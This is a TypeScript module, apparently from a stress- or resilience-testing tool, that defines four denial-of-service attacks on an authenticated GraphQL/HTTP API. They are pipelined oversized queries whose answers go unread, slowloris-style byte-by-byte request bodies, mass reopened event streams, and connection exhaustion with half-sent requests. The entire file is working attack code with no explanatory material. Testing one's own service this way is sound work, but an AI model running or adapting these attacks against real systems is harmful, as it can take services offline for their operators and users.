import { connect } from "node:net";
import type { Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Play } from "../attack.ts";
import { bodyOf, repeat } from "../attack.ts";

/** Milliseconds between two bytes of slow requests. */
const dropMs = 100;

/** Holds a number of connections open, and replaces connections that end. */
async function holding(play: Play, count: number, use: (socket: Socket) => void): Promise<void> {
  const { hostname, port } = new URL(play.url);
  const sockets = new Set<Socket>();
  while (!play.isOver()) {
    while (sockets.size < count) {
      const socket = connect(Number(port), hostname);
      sockets.add(socket);
      socket.on("error", () => {}).on("close", () => sockets.delete(socket));
      socket.on("connect", () => play.tally.note("connected"));
      use(socket);
    }
    await sleep(dropMs / 2);
  }
  for (const socket of sockets) socket.destroy();
}

function headOf({ url, token }: Play, length: number): string {
  const { hostname } = new URL(url);
  return (
    `POST /api/graphql/unstable HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n` +
    `Authorization: Bearer ${token}\r\nContent-Length: ${length}\r\n\r\n`
  );
}

function dropByDrop(socket: Socket, start: string, rest: string): void {
  let position = 0;
  socket.write(start);
  const timer = setInterval(() => socket.write(rest.charAt(position++) || " "), dropMs);
  socket.on("close", () => clearInterval(timer));
}

/** Attacks that misuse connections. */
export const byConnections: Attack[] = [
  {
    name: "unread answers",
    what: "long answers that nobody reads",
    run(play) {
      const aliases = repeat(90, (i) => `a${i}: email`);
      const body = bodyOf(`{ customers(first: 250) { edges { node { ${aliases} } } } }`);
      const request = headOf(play, Buffer.byteLength(body)) + body;
      return holding(play, 60, (socket) => {
        socket.pause();
        // Pipelined requests on the same connection
        socket.write(request.repeat(20));
      });
    },
  },
  {
    name: "slow bodies",
    what: "bodies that come drop by drop",
    run: (play) => holding(play, 400, (socket) => dropByDrop(socket, headOf(play, 9_999), bodyOf("{ }"))),
  },
  {
    name: "streams",
    what: "a thousand streams at once, again whenever one is refused",
    run: (play) =>
      holding(play, 900, (socket) => {
        const { hostname } = new URL(play.url);
        socket.write(
          `GET /api/events HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${play.token}\r\n\r\n`,
        );
        socket.once("data", (answer: Buffer) => {
          const status = answer.toString("latin1", 9, 12);
          play.tally.note(status);
          if (status !== "200") socket.destroy();
        });
      }),
  },
  {
    name: "many connections",
    what: "more connections than there may be, half of them with half a request",
    run(play) {
      let count = 0;
      return holding(play, 1_500, (socket) => {
        if (count++ % 2) dropByDrop(socket, "POST /api/graphql/unstable HTTP/1.1\r\nHost: a\r\nX: ", "x");
      });
    },
  },
];
